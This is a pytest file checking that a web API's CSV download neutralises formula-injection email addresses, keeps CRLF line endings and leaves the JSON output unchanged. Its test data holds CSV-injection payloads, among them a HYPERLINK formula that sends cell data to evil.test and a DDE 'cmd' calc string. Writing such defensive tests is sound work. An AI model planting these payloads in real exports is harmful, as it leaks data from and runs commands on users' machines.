"""The CSV download as a spreadsheet gets it: addresses built to be formulas come back as text,
lines end with CRLF, and a CR inside an address stays inside its field. In-process, one
rolled-back transaction per test; the results are stored through the repository a worker uses."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator

import httpx
import pytest
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from app.api.v0 import csv_export
from app.db import jobs, results
from app.settings import Settings
from tests.fixtures.api import in_process_api
from tests.fixtures.results import stored_output

HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1)@x.com',
    "@SUM(1+1)@x.com",
    "+1@x.com",
    "-x@x.com",
    "\t=1@x.com",
    "user\rname@x.com",
    "\r=cmd|' /C calc'!A0@x.com",
    "plain@x.com",
]


@pytest.fixture
async def client(
    shared_database_url: str, api_sessions: async_sessionmaker[AsyncSession]
) -> AsyncIterator[httpx.AsyncClient]:
    async with in_process_api(
        Settings(database_url=shared_database_url), sessions=api_sessions
    ) as http:
        yield http


@pytest.fixture
async def finished_job(db_session: AsyncSession) -> jobs.NewJob:
    job = await jobs.create(db_session, total_records=len(HOSTILE), options=jobs.JobOptions())
    for position, address in enumerate(HOSTILE):
        await results.record(
            db_session,
            job_id=job.job_id,
            position=position,
            email=address,
            verdict="invalid",
            output=stored_output(address, "invalid"),
        )
    return job


async def test_hostile_addresses_come_back_as_text_in_as_many_rows(
    client: httpx.AsyncClient, finished_job: jobs.NewJob
) -> None:
    response = await client.get(f"/v0/bulk/{finished_job.token}/download?format=csv")

    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    assert len(rows) == 1 + len(HOSTILE)
    assert tuple(rows[0]) == csv_export.HEADER
    for address, row in zip(HOSTILE, rows[1:], strict=True):
        cells = dict(zip(csv_export.HEADER, row, strict=True))
        assert cells["input"] == csv_export.neutralised(address)
        assert cells["syntax.username"] == csv_export.neutralised(address.rpartition("@")[0])
        assert cells["is_reachable"] == "invalid"
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (address, value)
    assert rows[1][0] == "'" + HOSTILE[0]
    assert rows[-1][0] == "plain@x.com"


async def test_lines_end_with_crlf_and_a_bare_cr_stays_quoted(
    client: httpx.AsyncClient, finished_job: jobs.NewJob
) -> None:
    body = (await client.get(f"/v0/bulk/{finished_job.job_id}/results?format=csv")).content

    lines = body.split(b"\r\n")
    assert lines[-1] == b""
    assert len(lines) == 1 + len(HOSTILE) + 1
    assert b"\n" not in body.replace(b"\r\n", b"")
    assert b'\r\n"user\rname@x.com",' in body


async def test_the_json_download_keeps_the_addresses_as_stored(
    client: httpx.AsyncClient, finished_job: jobs.NewJob
) -> None:
    response = await client.get(f"/v0/bulk/{finished_job.token}/download")

    assert [r["input"] for r in response.json()["results"]] == HOSTILE
